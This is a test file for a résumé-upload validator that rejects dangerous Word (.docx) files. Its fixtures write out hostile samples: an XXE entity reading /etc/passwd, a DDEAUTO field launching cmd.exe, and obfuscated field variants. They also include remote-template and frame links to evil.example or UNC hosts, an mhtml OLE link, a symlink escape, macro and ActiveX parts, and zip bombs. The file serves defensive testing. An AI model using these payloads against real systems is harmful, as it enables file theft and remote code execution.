import { deflateRawSync, type ZlibOptions } from 'node:zlib';
import { expect, test, vi } from 'vitest';
import { growsLinearly } from '#app/lib/growth-for-tests.ts';
import { findOpenXmlError } from './open-xml-document.ts';
import { checkXmlPart } from './open-xml-parts.ts';
import { ResumeRefusal } from './resume-errors.ts';
import { makeZip, type ZipEntry } from './zip-for-tests.ts';

const unpacked = vi.hoisted(() => ({ bytes: 0 }));
vi.mock('node:zlib', async (importOriginal) => {
  const zlib = await importOriginal<typeof import('node:zlib')>();
  const createInflateRaw = (options: ZlibOptions) => {
    const stream = zlib.createInflateRaw(options);
    const push = stream.push.bind(stream);
    stream.push = (chunk: Buffer | null) => {
      unpacked.bytes += chunk?.length ?? 0;
      return push(chunk);
    };
    return stream;
  };
  return { ...zlib, createInflateRaw };
});

const megabyte = 1_000_000;
const mainType = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml';
const types = (more = '') => ({
  name: '[Content_Types].xml',
  content: `<Types><Override PartName="/word/document.xml" ContentType="${mainType}"/>${more}</Types>`,
});
const text = { name: 'word/document.xml', content: '<w:document/>' };
const docx = (...more: ZipEntry[]) => makeZip([types(), text, ...more]);
const xmlWithDtd = '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><w:document>&b;</w:document>';
const utf16 = (xml: string) => Buffer.from(`\ufeff${xml}`, 'utf16le');
const errorOf = (bytes: Buffer) =>
  findOpenXmlError(bytes).catch((error: unknown) => (error instanceof ResumeRefusal ? error.reason : 'damaged'));

const page = '<!DOCTYPE html><html><body>Опыт</body></html>';
const listed = (name: string, type: string, content: string): Buffer =>
  makeZip([types(`<Override PartName="/${name}" ContentType="${type}"/>`), text, { name, content }]);
const related = (relationship: string, name = 'word/_rels/document.xml.rels') =>
  docx({ name, content: `<Relationships>${relationship}</Relationships>` });
const schema = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const external = (type: string, target: string) =>
  related(`<Relationship Id="r1" Type="${schema}/${type}" Target="${target}" TargetMode="External"/>`);
const written = (body: string) =>
  makeZip([types(), { ...text, content: `<w:document><w:p>${body}</w:p></w:document>` }]);
const template = `<Relationship Type="${schema}/attachedTemplate" Target="https://evil.example/a.dotm" TargetMode="External"/>`;

test.each<[string, Buffer]>([
  ['a letter', docx()],
  ['a letter of Word in the browser', makeZip([types(), { ...text, name: 'word/document2.xml' }])],
  [
    'a letter with photos and a table of Excel’s',
    docx(photo('a'), photo('b'), { name: 'word/embeddings/t.xlsx', content: 'PK' }),
  ],
  [
    'a letter of 400 parts',
    docx(...Array.from({ length: 400 }, (_, i) => ({ name: `word/media/${i}.jfif`, content: 'x' }))),
  ],
  ['an inserted web page', docx({ name: 'word/afchunk.htm', content: page })],
  ['an inserted web page, its type XHTML', listed('word/afchunk.dat', 'application/xhtml+xml', page)],
  ['a link', external('hyperlink', 'https://ru.wikipedia.org/wiki/JavaScript')],
  ['a link to a shared folder', external('hyperlink', 'file:///\\\\server\\cv')],
  ['a picture of a web page', external('image', 'https://hh.ru/photo.jpg')],
  ['a template on its author’s disk', external('attachedTemplate', 'file:///C:\\Users\\anna\\Templates\\Resume.dotx')],
  ['a template beside it', external('attachedTemplate', 'Resume.dotx')],
  ['a style sheet that is no element', related('<!-- Relationship -->')],
  ['a table of contents', written('<w:instrText>TOC \\o "1-3"</w:instrText>')],
  ['a letter about DDE', written('<w:r><w:t>DDE и DDEAUTO</w:t></w:r>')],
  ['a letter in UTF-16', makeZip([types(), { ...text, content: utf16('<w:document/>') }])],
  [
    'a list of types with a declaration',
    makeZip([{ ...types(), content: `<?xml version="1.0"?>${types().content}` }, text]),
  ],
])('good: %s', async (_what, bytes) => {
  expect(await errorOf(bytes)).toBeNull();
});

function photo(name: string): ZipEntry {
  return { name: `word/media/${name}.png`, content: Buffer.alloc(3 * megabyte, 'pixel') };
}

test.each<[string, Buffer, string?]>([
  [
    'macros under another name',
    makeZip([types('<Default ContentType="application/vnd.ms-office.vbaProject"/>'), text]),
  ],
  ['the right type in a comment', makeZip([types('<!-- -->'), text])],
  ['a type written in codes', makeZip([types('<Override ContentType="&#109;acroEnabled"/>'), text])],
  ['a document type definition', makeZip([types(), { ...text, content: xmlWithDtd }])],
  ['a document type definition in UTF-16', makeZip([types(), { ...text, content: utf16(xmlWithDtd) }])],
  [
    'a document type definition in UTF-16, the other order',
    docx({ name: 'word/a.xml', content: utf16(xmlWithDtd).swap16() }),
  ],
  [
    'a document type definition after much space',
    docx({ name: 'docProps/core.xml', content: ' '.repeat(256 * 1024 - 3) + xmlWithDtd }),
  ],
  ['two lists of types', docx(types())],
  ['two entries that differ in case only', docx({ name: 'WORD/document.xml', content: '<a/>' })],
  ['a link out of the archive', docx({ name: 'word/media/a.png', content: '/etc/passwd', isLink: true })],
  ['an archive in the archive', docx({ name: 'word/embeddings/a.zip', content: 'PK' })],
  ['a document with macros inside', docx({ name: 'word/embeddings/a.xlsm', content: 'PK' })],
  [
    'another name before the content',
    docx({ name: 'word/vbaProject.bin', listedAs: 'word/media/a.png', content: 'x' }),
  ],
  ['an entry that is larger than it says', docx({ name: 'a', content: 'x'.repeat(100), declared: { size: 50 } })],
  ['an entry that is smaller than it says', docx({ name: 'a', content: 'x'.repeat(100), declared: { size: 150 } })],
  ['an entry that reaches beyond the file', docx({ name: 'a', content: 'x', declared: { packed: 1000, size: 1000 } })],
  [
    'content that is not compressed as it says',
    docx({ name: 'a', content: '', packed: Buffer.from('\xff'), declared: { size: 9 } }),
  ],
  ['an entry with a password', docx({ name: 'word/a.xml', content: 'x', isEncrypted: true }), 'password'],
  ['macros', docx({ name: 'word/vbaProject.bin', content: 'x' }), 'macros'],
  [
    'macros by a relationship',
    related('<Relationship Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="a.bin"/>'),
    'macros',
  ],
  ['a control', related(`<Relationship Type="${schema}/control" Target="activeX/activeX1.xml"/>`), 'macros'],
  [
    'a type definition in a part of an unusual name',
    listed('word/a.dat', 'application/vnd.x+xml', xmlWithDtd),
    'links',
  ],
  ['a type definition in the list of relationships', related(xmlWithDtd), 'links'],
  [
    'an object of another program',
    listed('word/embeddings/o.bin', 'application/vnd.openxmlformats-officedocument.oleObject', 'x'),
    'attachment',
  ],
  [
    'an object by its relationship',
    related(`<Relationship Type='${schema}/oleObject' Target='embeddings/a.dat'/>`),
    'attachment',
  ],
  ['an inserted RTF', docx({ name: 'word/afchunk.rtf', content: '{\\rtf1}' }), 'attachment'],
  ['an inserted RTF under another name', listed('word/afchunk.dat', 'application/rtf', '{\\rtf1}'), 'attachment'],
  ['a template of another server', related(template), 'links'],
  [
    'a template, its attributes in another order',
    related(template.replace(/(Type=\S+) (Target=\S+) (\S+)\//, 'A=">" $3 $2 $1/')),
    'links',
  ],
  ['a template, its URL in codes', external('attachedTemplate', '&#104;ttps://evil.example/a.dotm'), 'links'],
  ['a template, its names with a prefix', related(template.replace('<', '<r:')), 'links'],
  ['a template of another server of the network', external('attachedTemplate', '\\\\evil\\a.dotm'), 'links'],
  ['a template of another server, as a file', external('attachedTemplate', 'file://evil/a.dotm'), 'links'],
  ['a template in the settings', related(template, 'word/_rels/settings.xml.rels'), 'links'],
  [
    'a linked object',
    external('oleObject', 'mhtml:http://evil.example/a.html!x-usc:http://evil.example/a.html'),
    'attachment',
  ],
  ['a frame', external('frame', 'http://evil.example/a.html'), 'links'],
  ['a picture of another server of the network', external('image', '\\\\evil\\a.png'), 'links'],
  [
    'a field that runs a program',
    written('<w:instrText>DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"</w:instrText>'),
    'links',
  ],
  ['a simple field', written('<w:fldSimple w:instr="DDE cmd"/>'), 'links'],
  [
    'a field in pieces',
    written(
      '<w:r><w:instrText xml:space="preserve">DD</w:instrText></w:r><w:r><w:instrText>EAUTO cmd</w:instrText></w:r>',
    ),
    'links',
  ],
  ['a field in codes', written('<w:instrText>&#68;&#x44;E cmd</w:instrText>'), 'links'],
  ['a field with a comment', written('<w:instrText>DD<!-- x -->E cmd</w:instrText>'), 'links'],
  ['a field in a section of characters', written('<w:instrText><![CDATA[DDE]]> cmd</w:instrText>'), 'links'],
  ['a field with another prefix', written('<x:instrText>dde cmd</x:instrText>'), 'links'],
  ['a field in a header', docx({ name: 'word/header1.xml', content: '<w:instrText>DDE cmd</w:instrText>' }), 'links'],
  ['a field in UTF-16', makeZip([types(), { ...text, content: utf16('<w:instrText>DDE cmd</w:instrText>') }]), 'links'],
  ['11 MB of text', docx({ name: 'word/a.xml', content: ' '.repeat(11 * megabyte) }), 'unpacked'],
])('bad: %s', async (_what, bytes, reason) => {
  expect(await errorOf(bytes)).toEqual(reason ?? expect.any(String));
});

test.each([
  ['tags without an end', '<'],
  ['relationships', '<Relationship '],
  ['attributes', '<Relationship a="'],
  ['fields', '<w:instrText>'],
  ['comments', '<!--'],
  ['spaces', `<Relationship ${' '.repeat(500)}`],
  ['entities', '&#'],
])(
  'megabytes of %s take time proportional to their length',
  async (_what, piece) => {
    const check = (length: number) => checkXmlPart('word/_rels/a.xml.rels', Buffer.alloc(length, `${piece}`));
    expect(await growsLinearly(async (length) => check(length), 1_000_000)).toBe(true);
  },
  60_000,
);

const bomb = { name: 'word/media/a.bin', content: '', packed: deflateRawSync(Buffer.alloc(600 * megabyte)) };
const small = { content: '', packed: deflateRawSync(Buffer.alloc(150_000)), declared: { size: 150_000 } };

test.each<[string, Buffer]>([
  ['of 600 MB', docx({ ...bomb, declared: { size: 600 * megabyte } })],
  ['of 600 MB that says ten bytes', docx({ ...bomb, declared: { size: 10 } })],
  ['of 600 MB that says what is allowed', docx({ ...bomb, declared: { size: 49 * megabyte } })],
  [
    'of many small entries, as many as are allowed',
    docx(...Array.from({ length: 298 }, (_, i) => ({ ...small, name: `${i}` }))),
  ],
])('at most 50 MB of a bomb %s are decompressed, and less is kept', async (_what, bytes) => {
  const memory = process.memoryUsage().rss;
  unpacked.bytes = 0;
  await errorOf(bytes);
  expect(unpacked.bytes).toBeLessThan(51 * megabyte);
  expect(process.memoryUsage().rss - memory).toBeLessThan(50 * megabyte);
});
